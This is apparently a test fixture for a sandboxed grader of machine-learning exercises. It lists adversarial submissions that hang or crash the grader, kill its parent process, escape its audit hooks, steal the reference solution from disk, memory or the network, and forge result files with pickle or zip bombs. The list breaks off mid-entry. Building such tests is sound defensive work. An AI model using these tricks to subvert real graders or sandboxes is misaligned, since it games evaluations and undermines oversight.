"""Submissions that cheat, break something or are merely unusual, and what the grader makes of them.

A cheat is (name, file, right code, wrong code, exercises that lose their points, what the message
of the first of these says): the repository's own solution with right, which the file has exactly
once, replaced by wrong. All other exercises keep their points; if the list is empty, all do.

If right is "", wrong is appended to the file. If right is None, wrong is the whole file: text or
bytes, None if there is no such file, a Path for a symbolic link to it, a dict for a folder.
`submit` makes the folder of a cheat.
"""

import codecs
import shutil
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
FILES = ("model.py", "sft.py", "reward.py", "ppo.py")
MODEL = ["attention", "draw", "cache", "mask", "logprobs"]
PPO = ["rewards", "gae", "whiten", "policy", "value", "average", "rollout"]
ALL = [*MODEL, "sft", "ranking", "centre", *PPO]

# Lines of the blanked functions that a cheat takes the place of, or stands in front of.
GAE = "    advantages = torch.zeros_like(rewards)\n"
GAE_DEF = "def gae(rewards, values, mask, lam: float):\n"
GAE_END = "    return advantages, (advantages + values) * mask\n"
GAE_BODY = (
    GAE
    + """    running = torch.zeros_like(rewards[:, 0])  # A_{t+1}, (B,)
    following = torch.zeros_like(running)  # V_{t+1}, (B,)
    for t in reversed(range(rewards.shape[1])):
        delta = rewards[:, t] + following - values[:, t]
        running = (delta + lam * running) * mask[:, t]
        following = values[:, t] * mask[:, t]
        advantages[:, t] = running
"""
    + GAE_END
)
WHITEN = """    mean = masked_mean(x, mask)
    variance = masked_mean((x - mean) ** 2, mask)
    return (x - mean) * torch.rsqrt(variance + 1e-8) * mask
"""
ROLLOUT_END = """            "scores": scores, "ended": ended.float(), "returns": returns,
            "advantages": whiten(advantages, mask)}  # fmt: skip
"""
LOGPROBS_END = """\
        logp[:, 1:][chosen] = logits.log_softmax(dim=-1).gather(1, following[:, None]).squeeze(1)
        return logp
"""
MASK_BODY = """    require_room(prompts, context)
    rows = [(p + r)[:context] for p, r in zip(prompts, responses)]
    mask = [[0] * len(p) + [1] * (len(row) - len(p)) for p, row in zip(prompts, rows)]
    return pad_rows(rows, pad, device), pad_rows(mask, 0, device).float()
"""
MASK_END = MASK_BODY.splitlines(keepends=True)[-1]
DRAW_BODY = """    if temperature == 0:
        return logits.argmax(dim=-1)
    below = (logits / temperature).softmax(dim=-1).cumsum(dim=-1)  # (B,V), up to about 1
    drawn = torch.rand(len(below), 1, device=below.device) * below[:, -1:]
    token = torch.searchsorted(below, drawn, right=True).squeeze(1)
    return token.clamp(max=logits.shape[1] - 1)
"""
DRAWN = "    drawn = torch.rand(len(below), 1, device=below.device) * below[:, -1:]\n"
ATTENTION = """        att = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
        att = att.masked_fill(~visible, -torch.inf).softmax(dim=-1)
        # (B,H,T,M) @ (B,H,M,D) -> (B,H,T,D) -> (B,T,C)
        y = (att @ v).transpose(1, 2).reshape(B, T, C)
"""
POLICY_END = "    return masked_mean(torch.maximum(unclipped, clipped), mask)\n"
VALUE_END = "    return 0.5 * masked_mean(worse, mask)\n"
SFT = "    return -model.logprobs(tokens, mask).sum() / mask.sum()\n"
REMEMBER = """    cache[0][rows, :, positions] = k.transpose(1, 2)
    cache[1][rows, :, positions] = v.transpose(1, 2)
"""
RANKING_END = """    pairs = beats.sum(dim=(1, 2))
    losses = -(F.logsigmoid(margins) * beats).sum(dim=(1, 2)) / pairs.clamp(min=1)
    return losses.sum() / (pairs > 0).sum().clamp(min=1)
"""
CENTRE_END = "    model.scalar.bias -= sum(scores) / len(scores)\n"
REWARDS_END = "    return rewards.scatter_add(1, last_token(mask)[:, None], scores[:, None])\n"
EMA = "        a.lerp_(p, 1 - decay)\n"


def own(file: str) -> str:
    return (ROOT / file).read_text(encoding="utf-8")


def source(file: str, name: str) -> str:
    """A function's text, and the blank lines behind it."""
    text = own(file)
    start = text.index(f"def {name}(")
    return text[start : text.index("\n\n\n", start) + 3]


def body(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", "    ")


def gae(code: str) -> tuple[str, str, str]:
    """This code in front of gae's own, which is right: (file, right, wrong)."""
    return "ppo.py", GAE, body(code) + GAE


def lazy(code: str) -> tuple[str, str, str]:
    """This code in place of gae's own, and then an answer of zeros."""
    return "ppo.py", GAE_BODY, body(code) + body("return rewards * 0, values * 0")


def stolen(code: str) -> tuple[str, str, str]:
    """This code must find the text of the repository's ppo.py; then its gae is run."""
    run = """
        if isinstance(text, bytes):
            text = text.decode()
        space = dict(globals())
        exec(text[text.index("def gae(") : text.index("def whiten(")], space)
        return space["gae"](rewards, values, mask, lam)
    """
    code = textwrap.dedent(code).replace("PATH", repr(str(ROOT / "ppo.py")))
    return "ppo.py", GAE_BODY, body(code.replace("ROOT", repr(str(ROOT)))) + body(run)


def forged(code: str) -> tuple[str, str, str]:
    """This code must write outputs.pt; then the process is left."""
    return "ppo.py", GAE_BODY, body(code) + body("import os\nos._exit(0)")


def pickled(opcodes: str) -> tuple[str, str, str]:
    """outputs.pt with a pickle of these opcodes, an expression of bytes, in PyTorch's archive."""
    return forged(f"""
        import zipfile
        with zipfile.ZipFile("outputs.pt", "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("archive/data.pkl", {opcodes})
            z.writestr("archive/byteorder", "little")
            z.writestr("archive/version", "3")
    """)


CHEATS = [
    # ------------------------------------------------------------------------- time and memory
    ("endless loop", *lazy("while True: pass"), ["gae"], "too long"),
    ("endless loop in C", *lazy("import itertools; sum(itertools.count())"), ["gae"], "too long"),
    ("regular expression without an end",
     *lazy('import re; re.match("(a*)*b", "a" * 99)'), ["gae"], "too long"),
    ("sleep", *lazy("import time; time.sleep(1e6)"), ["gae"], "too long"),
    ("loop that swallows all", *lazy("""
        import signal
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, lambda *args: None)
        while True:
            try:
                while True: pass
            except BaseException:
                pass
     """), ["gae"], "too long"),
    ("loop in an attention layer", "model.py", ATTENTION, "        while True: pass\n",
     ["attention"], "too long"),
    ("loop in the message of an error", *lazy("""
        class Endless(Exception):
            def __str__(self):
                while True: pass
        raise Endless
     """), ["gae"], "too long"),
    ("deadlock", *lazy("""
        import threading
        lock = threading.Lock()
        lock.acquire()
        lock.acquire()
     """), ["gae"], "too long"),
    ("thread that never ends", *gae("""
        import threading
        def forever():
            while True: pass
        threading.Thread(target=forever).start()
     """), [], ""),
    ("a thousand threads", *gae("""
        import threading, time
        for _ in range(1000):
            threading.Thread(target=time.sleep, args=(1e6,)).start()
     """), ["gae"], "can't start new thread"),
    ("list without an end", *lazy("""
        much = [0]
        while True: much += much
     """), ["gae"], "MemoryError"),
    ("tensor of a terabyte", *lazy("torch.empty(2**40)"), ["gae"], "memory"),
    ("tensor of 30 GB, filled", *lazy("torch.ones(2**32, dtype=torch.float64)"), ["gae"], "memory"),
    ("all limits taken away", *lazy("""
        import resource
        for what in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        torch.ones(2**29, dtype=torch.float64)
     """), ["gae"], "Error"),
    ("recursion without an end", *lazy("return gae(rewards, values, mask, lam)"), ["gae"],
     "RecursionError"),
    ("recursion through the end of the stack", *lazy("""
        import sys
        sys.setrecursionlimit(10**9)
        def deep(x): return max([x], key=deep)
        deep(1)
     """), ["gae"], "ended without an answer"),
    ("gigabyte on the disk", *lazy("open('much', 'wb').write(bytes(2**30))"), ["gae"],
     "File too large"),
    ("print-spam", *gae("""
        import sys
        for _ in range(100_000):
            print("x" * 100)
            print("x" * 100, file=sys.stderr)
     """), [], ""),
    # ----------------------------------------------------------------------------------- exits
    ("sys.exit", *lazy("import sys; sys.exit(0)"), ["gae"], "SystemExit"),
    ("SystemExit", *lazy("raise SystemExit"), ["gae"], "SystemExit"),
    ("KeyboardInterrupt", *lazy("raise KeyboardInterrupt"), ["gae"], "KeyboardInterrupt"),
    ("os._exit", *lazy("import os; os._exit(0)"), ["gae"], "ended without an answer"),
    ("abort", *lazy("import os; os.abort()"), ["gae"], "ended without an answer"),
    ("segmentation fault", *lazy("import faulthandler; faulthandler._sigsegv()"), ["gae"],
     "ended without an answer"),
    ("alarm", *lazy("import signal, time; signal.setitimer(0, 0.1); time.sleep(9)"), ["gae"],
     "ended without an answer"),
    ("debugger", *lazy("breakpoint()"), ["gae"], "BdbQuit"),
    ("input", *lazy("input()"), ["gae"], "EOFError"),
    ("error that cannot be told", *lazy("""
        class Mute(Exception):
            def __str__(self):
                raise self
        raise Mute
     """), ["gae"], "ended without an answer"),
    ("os._exit does nothing", *gae("import os; os._exit = os.waitpid = lambda *args: (1, 0)"), [],
     ""),
    ("sys.exit at import", "ppo.py", "", "\nimport sys\nsys.exit(0)\n", [], ""),
    ("os._exit at import", "model.py", "", "\nimport os\nos._exit(0)\n", [], ""),
    ("loop at import", "reward.py", "", "\nwhile True: pass\n", [], ""),
    ("parent killed at import", "sft.py", "", "\nimport os\nos.kill(os.getppid(), 9)\n", [], ""),
    ("exit in a decorator", "ppo.py", GAE_DEF, "@exit\n" + GAE_DEF, ["gae"], "SystemExit"),
    ("exit in a default argument", "ppo.py", GAE_DEF,
     GAE_DEF.replace("float)", "float = exit())"), ["gae"], "SystemExit"),
    # ------------------------------------------------------------------------------- processes
    ("parent killed", *lazy("import os; os.kill(os.getppid(), 9)"), ["gae"], "not allowed"),
    ("all processes of the group killed", *lazy("import os; os.killpg(0, 9)"), ["gae"],
     "not allowed"),
    ("parent killed through a descriptor", *lazy("""
        import os, signal, time
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
        time.sleep(2)
     """), ["gae"], ""),
    ("parent stopped through a descriptor", *lazy("""
        import os, signal, time
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGSTOP)
        time.sleep(9)
     """), ["gae"], ""),
    ("lines as if from the parent", *gae("""
        import os
        with open(f"/proc/{os.getppid()}/fd/1", "w") as file:
            file.write("ended 0\\n" * 3)
     """), ["gae"], ""),
    ("commands as if from the grader", *gae("""
        import os
        with open(f"/proc/{os.getppid()}/fd/0", "w") as file:
            file.write("gae\\t/nowhere\\n")
     """), ["gae"], ""),
    ("no text as if from the parent", *gae("""
        import os
        with open(f"/proc/{os.getppid()}/fd/1", "wb") as file:
            file.write(b"\\xff\\n\\xff\\n")
     """), ["gae"], ""),
    ("fork bomb", *lazy("""
        import os
        while True: os.fork()
     """), ["gae"], "os.fork is not allowed"),
    ("multiprocessing", *lazy("""
        import multiprocessing
        multiprocessing.Pool(2).map(abs, [1])
     """), ["gae"], "not allowed"),
    ("subprocess", *stolen("import subprocess\ntext = subprocess.check_output(['cat', PATH])"),
     ["gae"], "subprocess.Popen is not allowed"),
    ("os.system", *stolen("import os\nos.system('cp ' + PATH + ' x')\ntext = open('x').read()"),
     ["gae"], "os.system is not allowed"),
    ("os.execv", *lazy("import os; os.execv('/bin/true', ['true'])"), ["gae"], "not allowed"),
    ("os.posix_spawn", *lazy("import os; os.posix_spawn('/bin/true', ['true'], {})"), ["gae"],
     "not allowed"),
    ("pty", *lazy("import pty; pty.spawn('/bin/true')"), ["gae"], "not allowed"),
    ("process without an audit event", *stolen("""
        import multiprocessing.util, os, time
        multiprocessing.util.spawnv_passfds(b"/bin/cp", [b"cp", PATH.encode(), b"x"], [])
        time.sleep(0.5)
        text = open("x").read()
     """), ["gae"], ""),
    ("git", *stolen("""
        import subprocess
        text = subprocess.check_output(["git", "-C", ROOT, "show", "HEAD:ppo.py"])
     """), ["gae"], "not allowed"),
    # ----------------------------------------------------------- the repository's own solution
    ("open", *stolen("text = open(PATH).read()"), ["gae"], "not to be read"),
    ("open of bytes", *stolen("text = open(PATH.encode()).read()"), ["gae"], "not to be read"),
    ("pathlib", *stolen("import pathlib\ntext = pathlib.Path(PATH).read_text()"), ["gae"],
     "not to be read"),
    ("open of a roundabout path", *stolen("text = open('/proc/self/root' + PATH).read()"), ["gae"],
     "not to be read"),
    ("open of a link", *stolen("import os\nos.symlink(PATH, 'x')\ntext = open('x').read()"),
     ["gae"], "not to be read"),
    ("open from there", *stolen("import os\nos.chdir(ROOT)\ntext = open('ppo.py').read()"),
     ["gae"], "not to be read"),
    ("os.listdir", *stolen("""
        import os
        text = open(next(ROOT + "/" + n for n in os.listdir(ROOT) if n == "ppo.py")).read()
     """), ["gae"], "not to be read"),
    ("glob", *stolen("import glob\ntext = open(glob.glob(ROOT + '/pp*.py')[0]).read()"), ["gae"],
     "IndexError"),
    ("linecache", *stolen("import linecache\ntext = ''.join(linecache.getlines(PATH))"), ["gae"],
     ""),
    ("inspect", *stolen("""
        import importlib.util, inspect
        spec = importlib.util.spec_from_file_location("solution", PATH)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        text = inspect.getsource(module)
     """), ["gae"], "not to be read"),
    ("import", *lazy("""
        import importlib, sys
        sys.path.insert(0, ROOT)
        del sys.modules["ppo"]
        return importlib.import_module("ppo").gae(rewards, values, mask, lam)
     """.replace("ROOT", repr(str(ROOT)))), ["gae"], ""),
    ("numpy.fromfile", *stolen("import numpy\ntext = numpy.fromfile(PATH, 'uint8').tobytes()"),
     ["gae"], "not to be read"),
    ("io.FileIO of a Path", *stolen("""
        import io, pathlib
        text = io.FileIO(pathlib.Path(PATH)).read()
     """), ["gae"], "not to be read"),
    ("torch.from_file", *stolen("""
        import os
        text = bytes(torch.from_file(PATH, size=os.stat(PATH).st_size, dtype=torch.uint8).tolist())
     """), ["gae"], ""),
    ("open beside an open folder", *stolen("""
        import os
        folder = os.open(os.path.dirname(ROOT), os.O_PATH)
        name = os.path.basename(ROOT) + "/ppo.py"
        text = os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 2**20)
     """), ["gae"], ""),
    ("hard link", *stolen("import os\nos.link(PATH, 'x')\ntext = open('x').read()"), ["gae"], ""),
    ("chroot", *stolen("""
        import os
        os.chroot(os.path.dirname(ROOT))
        text = open("/" + os.path.basename(ROOT) + "/ppo.py").read()
     """), ["gae"], ""),
    ("path that lies", *stolen("""
        class Path(str):
            def __getitem__(self, at): return ""
            def startswith(self, *args): return False
            def __bool__(self): return False
        text = open(Path(PATH)).read()
     """), ["gae"], ""),
    ("memory of the grader", *stolen("""
        import os, re
        status = open(f"/proc/{os.getppid()}/status").read()
        grader = re.search(r"PPid:\\t(\\d+)", status)[1]
        text = ""
        with open(f"/proc/{grader}/mem", "rb", 0) as memory:
            for line in open(f"/proc/{grader}/maps"):
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                if "rw" in line and high - low < 2**28 and not text:
                    memory.seek(low)
                    some = memory.read(high - low)
                    at = some.find(b"def gae(rewards, values")
                    if at >= 0 and b"def whiten(" in some[at : at + 3000]:
                        text = some[at : at + 3000].decode(errors="replace")
     """), ["gae"], ""),
    ("left over by the exercise before", "ppo.py", REWARDS_END + "\n\n" + GAE_DEF,
     body("""
        import tempfile, os
        with open(tempfile.gettempdir() + "/solution-of-gae", "w") as file:
            file.write(open(__file__).read())
     """) + REWARDS_END + "\n\n" + GAE_DEF + body("""
        import os, tempfile
        if not hasattr(torch, "left_over"):
            torch.left_over = open(tempfile.gettempdir() + "/solution-of-gae").read()
            os.remove(tempfile.gettempdir() + "/solution-of-gae")
        text, space = torch.left_over, dict(globals())
        exec(text[text.index("def gae(") : text.index("def whiten(")], space)
        return space["gae"](rewards, values, mask, lam)
     """), ["gae"], ""),
    ("link to the solution", "ppo.py", None, ROOT / "ppo.py", PPO, "ppo.py is missing"),
    ("download with a socket", *stolen("""
        import socket
        text = socket.create_connection(("raw.githubusercontent.com", 443)).recv(9999)
     """), ["gae"], "socket"),
    ("download with urllib", *stolen("""
        import urllib.request
        text = urllib.request.urlopen("https://raw.githubusercontent.com/a/b/main/ppo.py").read()
     """), ["gae"], ""),
    ("inputs of other runs", *lazy("""
        import glob, os
        mine = os.path.abspath("inputs.pt")
        return torch.load(next(p for p in glob.glob("/tmp/*/*/inputs.pt") if p != mine))
     """), ["gae"], "StopIteration"),
    # ------------------------------------------------------------------ the fence and its hook
    ("forbidden list replaced", *stolen("""
        import __main__, subprocess
        __main__.FORBIDDEN = ("nothing",)
        text = subprocess.check_output(["cat", PATH])
     """), ["gae"], ""),
    ("realpath replaced", *stolen("""
        import os
        os.path.realpath = lambda path: "/"
        text = open(PATH).read()
     """), ["gae"], ""),
    ("readlink and lstat replaced", *stolen("""
        import posixpath
        posixpath._joinrealpath = lambda *args: ("/", True)
        text = open(PATH).read()
     """), ["gae"], ""),
    ("isinstance replaced", *stolen("""
        import __main__
        __main__.isinstance = lambda *args: False
        text = open(PATH).read()
     """), ["gae"], ""),
    ("builtin replaced", *stolen("""
        import builtins
        old, builtins.isinstance = builtins.isinstance, lambda *args: False
        try:
            text = open(PATH).read()
        finally:
            builtins.isinstance = old
     """), ["gae"], ""),
    ("frames of the callers", *stolen("""
        import sys
        frame = sys._getframe()
        while frame:
            if "FORBIDDEN" in frame.f_globals:
                frame.f_globals["FORBIDDEN"] = ("nothing",)
            frame = frame.f_back
        import subprocess
        text = subprocess.check_output(["cat", PATH])
     """), ["gae"], ""),
    ("hook found by the garbage collector", *stolen("""
        import gc
        for x in gc.get_objects():
            if getattr(x, "__name__", "") == "watch" and x.__closure__:
                for cell in x.__closure__:
                    if isinstance(cell.cell_contents, str):
                        cell.cell_contents = "/nowhere"
        text = open(PATH).read()
     """), ["gae"], ""),
    ("hook's code replaced", *stolen("""
        import gc
        for x in gc.get_objects():
            if getattr(x, "__qualname__", "").endswith("watch") and x.__closure__:
                outer = x.__closure__[0].cell_contents
                def empty():
                    outer
                    return lambda event, args: outer and None
                x.__code__ = empty().__code__
        text = open(PATH).read()
     """), ["gae"], ""),
    ("own hook", *gae("import sys; sys.addaudithook(lambda event, args: None)"), [], ""),
    ("ctypes", *stolen("""
        import ctypes
        libc = ctypes.CDLL(None)
        libc.system(b"cp " + PATH.encode() + b" x")
        text = open("x").read()
     """), ["gae"], "ctypes"),
    ("ctypes and the hooks", *stolen("""
        import ctypes
        ctypes.pythonapi.PySys_AddAuditHook
        text = open(PATH).read()
     """), ["gae"], "ctypes"),
    # --------------------------------------------------------------------------- forged results
    ("score.json", *lazy("""
        import json, os
        for folder in (".", "..", os.path.dirname(os.getcwd())):
            try:
                with open(folder + "/score.json", "w") as file:
                    json.dump({"score": 100, "max_score": 100, "exercises": []}, file)
            except OSError:
                pass
     """), ["gae"], "advantages is wrong"),
    ("error.txt that says right", *lazy("open('error.txt', 'w').write('right')"), ["gae"], ""),
    ("error.txt that is empty", *lazy("open('error.txt', 'w')"), ["gae"], "advantages is wrong"),
    ("error.txt linked to a secret", *forged("import os; os.symlink('/etc/passwd', 'error.txt')"),
     ["gae"], "ended without an answer"),
    ("error.txt of no characters", *forged("open('error.txt', 'wb').write(bytes(range(256)))"),
     ["gae"], ""),
    ("outputs.pt linked to a secret", *forged("import os; os.symlink('/etc/passwd', 'outputs.pt')"),
     ["gae"], "ended without an answer"),
    ("outputs.pt a pipe", *forged("import os; os.mkfifo('outputs.pt')"), ["gae"],
     "ended without an answer"),
    ("outputs.pt a folder", *forged("import os; os.mkdir('outputs.pt')"), ["gae"],
     "ended without an answer"),
    ("outputs.pt without sense", *forged("open('outputs.pt', 'wb').write(b'x' * 999)"), ["gae"],
     "cannot be read"),
    ("outputs.pt empty", *forged("open('outputs.pt', 'wb')"), ["gae"], "cannot be read"),
    ("outputs.pt of a gigabyte", *forged("open('outputs.pt', 'wb').write(bytes(2**30))"), ["gae"],
     "File too large"),
    ("outputs.pt that runs a command", *forged("""
        import os
        class Bomb:
            def __reduce__(self): return os.system, ("touch /tmp/pickle-bomb-went-off",)
        torch.save(Bomb(), "outputs.pt")
     """), ["gae"], "cannot be read"),
    ("outputs.pt a tensor", *forged("torch.save(torch.ones(3), 'outputs.pt')"), ["gae"],
     "cannot be read"),
    ("outputs.pt an empty list", *forged("torch.save([], 'outputs.pt')"), ["gae"], "missing"),
    ("outputs.pt of empty answers", *forged("torch.save([{}] * 3, 'outputs.pt')"), ["gae"],
     "is missing"),
    ("outputs of lists", *forged("""
        torch.save([{"advantages": [1.0], "returns": [1.0]}] * 3, "outputs.pt")
     """), ["gae"], ""),
    ("outputs of None", *forged("""
        torch.save([{"advantages": None, "returns": None}] * 3, "outputs.pt")
     """), ["gae"], ""),
    ("outputs of words", *forged("""
        torch.save([{"advantages": "", "returns": "is right"}] * 3, "outputs.pt")
     """), ["gae"], "advantages"),
    ("outputs of words that cannot be printed", *forged("""
        torch.save([{"advantages": "\\ud800", "returns": ""}] * 3, "outputs.pt")
     """), ["gae"], "advantages"),
    ("outputs of five million words", *forged("""
        torch.save([{"advantages": "very " * 5_000_000, "returns": ""}] * 3, "outputs.pt")
     """), ["gae"], "advantages"),
    ("outputs that unpack to 3 GB", *forged("""
        import copy, zipfile
        torch.save([{str(i): torch.zeros(2) for i in range(16)}], "small.pt")
        with zipfile.ZipFile("small.pt") as small:
            parts = {name: small.read(name) for name in small.namelist()}
        with zipfile.ZipFile("outputs.pt", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
            for name, part in parts.items():
                if name.endswith("data/0"):
                    bomb.writestr(name, bytes(200 * 2**20))
                    first = bomb.getinfo(name)
                elif "/data/" not in name:
                    many = b"J" + (50 * 2**20).to_bytes(4, "little")
                    bomb.writestr(name, part.replace(b"K\\x02", many))
            for name in parts:
                if "/data/" in name and name != first.filename:  # the same bytes once more
                    other = copy.copy(first)
                    other.filename = name
                    bomb.filelist.append(other)
     """), ["gae"], "cannot be read"),
    ("outputs of 30 million dicts",
     *pickled(r'b"\x80\x02]" + (b"(" + b"}" * 999 + b"e") * 30_000 + b"."'), ["gae"],
     "cannot be read"),
    ("outputs with a key that is hashed for ever", *pickled(
        r'b"\x80\x02]}K\x01" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(40)) + b"K\x01sa."'
     ), ["gae"], "cannot be read"),
    ("outputs with a name without an end", *pickled(
        r'b"\x80\x02]}K\x01" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(24)) + b"K\x01sa."'
     ), ["gae"], "cannot be read"),
    # -------------------------------------------------------------------------------- patching
    ("torch.isclose", *lazy("torch.isclose = torch.equal = torch.allclose = lambda *a, **k: True"),
     ["gae"], "advantages is wrong"),
    ("torch.save", *lazy("torch.save = lambda *args: None"), ["gae"], "ended without an answer"),
    ("torch.load", *lazy("torch.load = lambda *args: None"), ["gae"], "advantages is wrong"),
    ("torch.Tensor.__eq__", *lazy("torch.Tensor.__eq__ = lambda *args: True"), ["gae"],
     "advantages is wrong"),
    ("torch.autograd.grad", "ppo.py", POLICY_END,
     body("torch.autograd.grad = lambda loss, x, **k: [torch.zeros_like(x)]") + POLICY_END,
     ["policy"], "gradient of logp is wrong"),
    ("exercises.difference", *lazy("""
        import exercises
        exercises.difference = lambda *args: ""
        exercises.looks_like = lambda *args: ""
     """), ["gae"], "advantages is wrong"),
    ("exercises.outputs_of", *lazy("""
        import exercises
        exercises.outputs_of = lambda *args: {}
     """), ["gae"], "wrong"),
    ("exercises.BY_NAME", *lazy("""
        import exercises
        exercises.BY_NAME["gae"].tolerance = 1e9
        for exercise in exercises.EXERCISES:
            exercise.tolerance, exercise.call = 1e9, lambda *a, **k: ({}, {})
     """), ["gae"], "wrong"),
    # -------------------------------------------------------------- what is no right answer
    ("nothing", *lazy("return None"), ["gae"], "TypeError"),
    ("one tensor of two", *lazy("return rewards"), ["gae"], "ValueError"),
    ("lists", "ppo.py", GAE_END, "    return advantages.tolist(), values.tolist()\n", ["gae"],
     "advantages is a list"),
    ("floats", *lazy("return 1.0, 1.0"), ["gae"], "advantages is a float"),
    ("words", *lazy("return 'ab'"), ["gae"], "advantages is a str"),
    ("arrays of numpy", "ppo.py", GAE_END,
     "    return advantages.numpy(), ((advantages + values) * mask).numpy()\n", ["gae"],
     "advantages is a ndarray"),
    ("equal to all", *lazy("""
        class Equal:
            __class__ = torch.Tensor
            def __eq__(self, other): return True
            def __getattr__(self, name): return lambda *args, **kwargs: self
        return Equal(), Equal()
     """), ["gae"], ""),
    ("tensor of a class of one's own", *lazy("""
        class Equal(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None): return args[0]
        return rewards.as_subclass(Equal), values.as_subclass(Equal)
     """), ["gae"], ""),
    ("parameter", "ppo.py", GAE_END,
     "    return torch.nn.Parameter(advantages), (advantages + values) * mask\n", [], ""),
    ("sparse", "ppo.py", GAE_END,
     "    return advantages.to_sparse(), ((advantages + values) * mask).to_sparse()\n", ["gae"],
     ""),
    ("nowhere", *lazy("return rewards.to('meta'), values.to('meta')"), ["gae"], ""),
    ("nested", *lazy("""
        rows = torch.nested.nested_tensor(list(rewards))
        return rows, rows
     """), ["gae"], ""),
    ("quantized", "ppo.py", WHITEN,
     "    return torch.quantize_per_tensor(x.float(), 0.1, 0, torch.qint8)\n", ["whiten"], ""),
    ("quantized numbers of tokens", "model.py", MASK_END, """\
    tokens = pad_rows(rows, pad, device).float()
    tokens = torch.quantize_per_tensor(tokens, 1.0, 0, torch.quint8)
    return tokens, pad_rows(mask, 0, device).float()
""", ["mask"], ""),
    ("complex", "ppo.py", GAE_END, "    return advantages + 0j, (advantages + values) * mask\n",
     ["gae"], "type"),
    ("other keys", "ppo.py", ROLLOUT_END, ROLLOUT_END.replace('"scores"', '"score"'), ["rollout"],
     "scores is missing"),
    ("key more", "ppo.py", ROLLOUT_END, ROLLOUT_END.replace("}", ', "rewards": rewards}'), [], ""),
    ("no dict", "ppo.py", ROLLOUT_END, ROLLOUT_END.replace("}", "}.values()"), ["rollout"],
     "Error"),
    ("transposed", "ppo.py", GAE_END, GAE_END.replace("return advantages", "return advantages.T"),
     ["gae"], "advantages has the shape (9, 4), not (4, 9)"),
    ("of one entry", "ppo.py", POLICY_END, POLICY_END.rstrip() + "[None]\n", ["policy"], "shape"),
    ("broadcast from a row", *lazy("return rewards[:1], values[:1]"), ["gae"], "shape"),
    ("tensor of a trillion entries", *lazy("""
        return torch.zeros(()).expand(10**6, 10**6), values
     """), ["gae"], "memory"),
    ("mask of bool", "model.py", MASK_END, MASK_END.replace(".float()", " > 0"), ["mask"], "type"),
    ("tokens of float", "model.py", MASK_END, MASK_END.replace("device),", "device).float(),"),
     ["mask"], "type"),
    ("half precision", "ppo.py", GAE_END, GAE_END.replace("return advantages", "return "
     "advantages.half()"), ["gae"], "wrong"),
    ("single precision", "ppo.py", GAE_END, GAE_END.replace("return advantages", "return "
     "advantages.float()"), [], ""),
    ("detached", "ppo.py", POLICY_END, POLICY_END.rstrip() + ".detach()\n", ["policy"],
     "gradient of logp is missing"),
    ("without gradients", "ppo.py", VALUE_END,
     "    return torch.tensor(0.5 * masked_mean(worse, mask).item(), dtype=worse.dtype)\n",
     ["value"], "gradient of values is missing"),
    ("float for a loss", "sft.py", SFT, SFT.rstrip() + ".item()\n", ["sft"],
     "loss is a float"),
    ("gradients turned off", "ppo.py", VALUE_END, body("torch.set_grad_enabled(False)") + VALUE_END,
     ["value"], ""),
    ("NaN everywhere", *lazy("return rewards * torch.nan, values * torch.nan"), ["gae"], "wrong"),
    ("NaN on the padding", "ppo.py", GAE_END,
     "    return advantages, (advantages + values) / mask * mask\n", ["gae"], "returns is wrong"),
    ("infinity", *lazy("return rewards + torch.inf, values"), ["gae"], "wrong"),
    ("lists changed in place", "model.py", MASK_BODY, """\
    require_room(prompts, context)
    mask = []
    for p, r in zip(prompts, responses):
        mask.append(([0] * len(p) + [1] * len(r))[:context])
        p += r
    rows = [p[:context] for p in prompts]
    return pad_rows(rows, pad, device), pad_rows(mask, 0, device).float()
""", ["mask"], "the given lists are left as they are"),
    ("mask wiped out in place", "model.py", LOGPROBS_END,
     LOGPROBS_END.replace("        return", "        mask.zero_()\n        return"), ["logprobs"],
     ""),
    ("values wiped out in place", "ppo.py", GAE_END, """\
    returns = (advantages + values) * mask
    values.zero_()
    return advantages, returns
""", ["gae"], ""),
    ("logits sorted in place", "model.py", DRAW_BODY,
     DRAW_BODY.replace("    return token.clamp", "    logits.copy_(logits.sort(dim=1)[0])\n"
                       "    return token.clamp"), ["draw"], ""),
    ("the same draw again and again", "model.py", DRAWN,
     DRAWN.replace("    drawn", "    torch.manual_seed(1)\n    drawn"), ["draw"], ""),
    ("no draw but a sequence", "model.py", DRAWN,
     "    drawn = (torch.arange(len(below)) * 0.618034 % 1)[:, None] * below[:, -1:]\n", ["draw"],
     ""),
    ("answers to the visible tests", *lazy("""
        import exercises
        for seed in exercises.SEEDS:
            given = exercises.inputs_of(exercises.BY_NAME["gae"], seed)
            if torch.equal(given["rewards"], rewards):
                return values, values  # as written down for this seed
     """), ["gae"], "advantages is wrong"),
    # -------------------------------------------------------------------------------- the file
    ("generator", "ppo.py", GAE_END, GAE_END.replace("return", "yield"), ["gae"], "ValueError"),
    ("generator of two", "ppo.py", GAE_END,
     "    yield advantages\n    yield (advantages + values) * mask\n", [], ""),
    ("async", "ppo.py", GAE_DEF, "async " + GAE_DEF, ["gae"], "gae is missing in ppo.py"),
    ("lambda", "ppo.py", "", "\ndel gae\ngae = lambda *args: args\n", [], ""),
    ("decorated", "ppo.py", GAE_DEF, "@torch.no_grad()\n" + GAE_DEF, [], ""),
    ("decorated as a property", "ppo.py", GAE_DEF, "@property\n" + GAE_DEF, ["gae"],
     "TypeError"),
    ("decorated with one's own", "ppo.py", GAE_DEF,
     "def same(f):\n    return f\n\n\n@same\n" + GAE_DEF, ["gae"], "NameError"),
    ("renamed", "ppo.py", GAE_DEF, GAE_DEF.replace("gae", "advantages"), ["gae"],
     "gae is missing in ppo.py"),
